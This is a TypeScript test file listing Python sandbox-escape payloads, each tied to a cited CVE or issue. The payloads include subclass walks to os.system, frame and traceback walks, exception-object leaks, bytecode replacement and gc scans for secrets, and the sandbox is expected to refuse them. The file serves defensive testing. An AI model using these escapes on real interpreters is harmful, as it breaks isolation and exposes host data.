/** Ways from a harmless object to the interpreter’s own: classes, frames, globals, code objects. */
import { type Attack, HARMLESS, HARMLESS_OR_SYNTAX, inLanguage } from './attack.ts';
import { PYTHON_LOOT } from './loot.ts';

const attack = (code: string): string => PYTHON_LOOT + code;
const gains = ['file', 'environment', 'process', 'write', 'signal'] as const;

export const pythonReflection: readonly Attack[] = inLanguage('python', [
  {
    id: 'py-subclasses-wrap-close',
    source: 'CVE-2023-39662 (llama_index); PandasAI issue 550: the classic walk',
    code: attack(`
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == '_wrap_close':
        g = c.__init__.__globals__
        loot_step(lambda: g['system']('(sleep 30; : @TOKEN@) &'))
        loot_builtins(g['__builtins__'])`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-subclasses-importer',
    source: 'class: BuiltinImporter.load_module',
    code: attack(`
for c in ''.__class__.__mro__[-1].__subclasses__():
    if c.__name__ == 'BuiltinImporter':
        for name in ('posix', 'nt', '_socket', 'os'):
            loot_step(lambda: loot(c.load_module(name)))`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-subclasses-popen',
    source: 'CVE-2025-9959 (smolagents: class hierarchy to subprocess.Popen)',
    code: attack(`
for c in [].__class__.__mro__[1].__subclasses__():
    if 'Popen' in c.__name__ or 'FileLoader' in c.__name__ or 'FileFinder' in c.__name__:
        loot_step(lambda: c(['/bin/sh', '-c', 'sleep 30; : @TOKEN@']))
        loot_step(lambda: c('x', '@FILE@').get_data('@FILE@'))`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-subclasses-every-globals',
    source: 'class: any function of any module',
    code: attack(`
seen = 0
for c in object.__subclasses__():
    for f in list(vars(c).values()):
        g = getattr(f, '__globals__', None)
        if g and 'os' in g:
            seen += 1
            loot(g['os'])
            break
    if seen > 3:
        break`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-print-self',
    source: 'the original gateway: `print.__self__` is the module of builtins',
    code: attack('loot_builtins(vars(print.__self__))'),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-builtin-of-host-function',
    source: 'class: a function handed in by the host',
    code: attack(`
for f in (read_span, search, query, list_files, print):
    for way in (lambda: f.__globals__['__builtins__'], lambda: vars(f.__self__), lambda: f.__func__.__globals__, lambda: f.__wrapped__.__globals__, lambda: f.__closure__[0].cell_contents.__globals__, lambda: f.__class__.__base__):
        loot_step(lambda: loot_builtins(way()))
        loot_step(lambda: print(repr(way())[:2000]))`),
    gains: [...gains, 'inside'],
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-generator-frame',
    source: 'CVE-2023-37271, PYSEC-2023-118 (RestrictedPython: `gi_frame.f_back`)',
    code: attack(`
def outer():
    def walk():
        f = g.gi_frame
        while f:
            loot_step(lambda: loot_builtins(f.f_builtins))
            loot_step(lambda: loot(f.f_globals['os']))
            f = f.f_back
        yield 1
    g = walk()
    for x in g:
        pass
outer()
loot_step(lambda: [x for x in (i.gi_frame.f_back.f_back.f_globals for i in [(y for y in [1])])])`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-coroutine-and-async-frames',
    source: 'CVE-2023-37271 by `cr_frame` and `ag_frame`',
    code: attack(`
async def a():
    pass
async def b():
    yield 1
for f in (a().cr_frame, b().ag_frame):
    while f:
        loot_step(lambda: loot_builtins(f.f_builtins))
        f = f.f_back`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-traceback-frames',
    source: 'CVE-2026-0863 (n8n: exceptions carry frames)',
    code: attack(`
try:
    1 / 0
except ZeroDivisionError as e:
    f = e.__traceback__.tb_frame
    while f:
        loot_step(lambda: loot_builtins(f.f_globals['__builtins__'].__dict__))
        loot_step(lambda: loot_builtins(f.f_builtins))
        loot_step(lambda: print(f.f_code.co_filename, sorted(f.f_globals)))
        f = f.f_back`),
    gains: [...gains, 'inside'],
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-traceback-of-host-error',
    source: 'class: an error of the host’s, with the host’s frames',
    code: attack(`
for call in (lambda: read_span('denied'), lambda: search(object()), lambda: list_files(1, 2, 3, 4), lambda: query(text=lambda: 0)):
    try:
        call()
    except BaseException as e:
        t = e.__traceback__
        while t:
            f = t.tb_frame
            loot_step(lambda: print(f.f_code.co_filename, list(f.f_locals)))
            loot_step(lambda: loot_builtins(f.f_builtins))
            t = t.tb_next
        loot_step(lambda: print(e.__cause__, e.__context__, e.args, e.__dict__))`),
    gains: [...gains, 'inside'],
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-attribute-error-obj',
    source:
      'CVE-2026-0863 (n8n), CVE-2024-47532 (RestrictedPython): `AttributeError.obj` with a name made by formatting',
    code: attack(`
def get(o, name):
    try:
        ('{0.' + name + '.nothing}').format(o)
    except AttributeError as e:
        return e.obj
cls = get((), '__class__')
base = get(cls, '__base__')
subs = get(base, '__subclasses__')
for c in subs():
    if c.__name__ == '_wrap_close':
        loot_builtins(get(get(c, '__init__'), '__globals__')['__builtins__'])`),
    gains,
    ends: HARMLESS,
  },
  {
    id: 'py-name-error-and-key-error',
    source: 'CVE-2026-49444 (n8n), exceptions that hold objects',
    code: attack(`
for act in (lambda: undefined_name, lambda: {}[print], lambda: __builtins__, lambda: (1).x, lambda: [].pop(), lambda: next(iter([]))):
    try:
        act()
    except BaseException as e:
        loot_step(lambda: loot_builtins(vars(e.obj.__self__)))
        loot_step(lambda: loot_builtins(e.args[0].__self__.__dict__))
        loot_step(lambda: print(e.__traceback__.tb_frame.f_back.f_back.f_code.co_filename))`),
    gains: [...gains, 'inside'],
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-try-except-star',
    source: 'CVE-2025-22153 (RestrictedPython: type confusion of `except*`)',
    code: attack(`
class Evil(type):
    def split(cls, *args):
        return 1, 2
class Group(BaseException, metaclass=Evil):
    def split(self, *a):
        return (print, print)
    def derive(self, *a):
        return 'x'
try:
    raise Group()
except* Exception as e:
    loot_builtins(vars(e.__self__))`),
    gains,
    ends: HARMLESS_OR_SYNTAX,
    isRefused: true,
  },
  {
    id: 'py-reduce-gives-getattr',
    source: 'asteval issue 86: `__reduce__` of a bound method is `getattr`',
    code: attack(`
g, args = print.__reduce_ex__(2) if isinstance(print.__reduce_ex__(2), tuple) else ('x'.join.__reduce__())
loot_builtins(vars(g.__self__))
loot_builtins(g(args[0], '__class__').__base__.__subclasses__()[0].__dict__)`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-getattr-with-joined-names',
    source: 'CVE-2025-5120 (smolagents: `getattr` past a filter of names)',
    code: attack(`
u = chr(95) * 2
base = getattr(getattr((), u + 'class' + u), u + 'base' + u)
for c in getattr(base, u + 'subclasses' + u)():
    if getattr(c, u + 'name' + u) == '_wrap_close':
        loot_builtins(getattr(getattr(c, u + 'init' + u), u + 'globals' + u)[u + 'builtins' + u])`),
    gains,
    ends: HARMLESS,
  },
  {
    id: 'py-str-subclass-passes-the-check',
    source: 'RestrictedPython pull request 282: `safer_getattr` with a name that only looks like a string',
    code: attack(`
class Name(str):
    def startswith(self, *a):
        return False
    def __eq__(self, other):
        return False
    def __hash__(self):
        return str.__hash__(self)
f = getattr(print, Name('__self__'))
loot_builtins(vars(f))`),
    gains,
    ends: HARMLESS,
  },
  {
    id: 'py-metaclass-getitem-and-decorators',
    source: 'class: calls without brackets (pyjail)',
    code: attack(`
@print.__self__.__dict__['exec']
@input
class X:
    pass
class M(type):
    __getitem__ = print.__self__.__dict__['eval']
class Y(metaclass=M):
    pass
Y['loot_builtins(vars(print.__self__))']`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-operators-call-builtins',
    source: 'class: operators and hooks that call what they hold',
    code: attack(`
class Hook:
    __add__ = getattr(print, '__self__').eval
    __missing__ = print
    def __format__(self, spec):
        loot_builtins(vars(print.__self__))
        return spec
    def __class_getitem__(cls, item):
        loot_builtins(item.f_builtins)
Hook() + 'loot_builtins(vars(print.__self__))'
f'{Hook():x}'`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-code-object-replaced',
    source: 'class: bytecode of the attacker’s own',
    code: attack(String.raw`
def f():
    return 1
c = f.__code__
f.__code__ = c.replace(co_consts=(None,) * 3, co_names=('x',), co_code=bytes([100, 200, 83, 0]) * 4)
print(f())
T = type(c)
g = type(f)(c.replace(co_code=b'\x97\x00d\xffd\xffS\x00'), {})
print(g())`),
    gains: ['memory', 'inside'],
    ends: [...HARMLESS, 'EXEC_TIMEOUT', 'EXEC_MEMORY', 'INTERNAL'],
    isRefused: true,
  },
  {
    id: 'py-garbage-collector',
    source: 'the original gateway: other sessions through `gc.get_objects`',
    code: `
import gc
hits = [o for o in gc.get_objects() if isinstance(o, dict) and any('session' in str(k).lower() or 'secret' in str(k).lower() for k in list(o))]
print(len(hits), [sorted(map(str, h))[:5] for h in hits[:20]])
for f in gc.get_referrers(print):
    print(str(f)[:2000])`,
    gains: ['memory', 'inside', 'environment'],
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-sys-modules-and-frames',
    source: 'microsoft/agent-governance-toolkit pull request 2631: `sys.modules` past the import filter',
    code: attack(`
import sys
loot_step(lambda: loot(sys.modules['os']))
loot_step(lambda: loot(sys.modules['posix']))
f = sys._getframe()
while f:
    print(f.f_code.co_filename, f.f_code.co_name)
    loot_step(lambda: loot_builtins(f.f_builtins))
    f = f.f_back
print(sys.argv, sys.path, sys.executable, getattr(sys, 'orig_argv', None))`),
    gains: [...gains, 'inside'],
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-type-makes-a-class',
    source: 'class: `type` with three arguments, and class bodies',
    code: attack(`
T = type('T', (object,), {'__init__': lambda s: None, '__del__': lambda s: loot_builtins(vars(print.__self__))})
T()
class D:
    def __init_subclass__(cls, **kw):
        loot_builtins(vars(print.__self__))
    def __set_name__(self, owner, name):
        loot_builtins(owner.__init__.__globals__)
class E(D):
    d = D()`),
    gains,
    ends: HARMLESS,
    isRefused: true,
  },
  {
    id: 'py-lifecycle-hooks-after-the-end',
    source: 'smolagents issue 2395: `__del__`, `__eq__`, `__getattribute__` run outside the watched time',
    code: attack(`
class Bomb:
    def __del__(self):
        loot_builtins(vars(print.__self__))
        while True:
            pass
    def __eq__(self, other):
        return True
    def __hash__(self):
        return 0
    def __repr__(self):
        return 'x' * 10000
    def __getattribute__(self, name):
        raise KeyboardInterrupt
b = Bomb()
b.me = [b]
b`),
    gains: [...gains, 'limits'],
    ends: [...HARMLESS, 'EXEC_TIMEOUT'],
    timeoutMs: 1_500,
    isRefused: true,
  },
  {
    id: 'py-match-class-pattern',
    source: 'RestrictedPython: attribute access by `match` patterns',
    code: attack(`
match print:
    case object(__self__=b):
        loot_builtins(vars(b))
match ():
    case object(__class__=object(__base__=base)):
        print(base.__subclasses__()[:3])`),
    gains,
    ends: HARMLESS_OR_SYNTAX,
    isRefused: true,
  },
  {
    id: 'py-annotations-and-walrus',
    source: 'class: places of code that a checker doesn’t visit',
    code: attack(`
def f(a: loot_builtins(vars(print.__self__)) = (b := print.__self__)) -> print.__self__.eval('1'):
    pass
type X = print.__self__.eval('loot_builtins(vars(print.__self__))')
loot_step(lambda: X.__value__)
x: print.__self__ = 1
loot_builtins(vars(b))`),
    gains,
    ends: HARMLESS_OR_SYNTAX,
    isRefused: true,
  },
]);
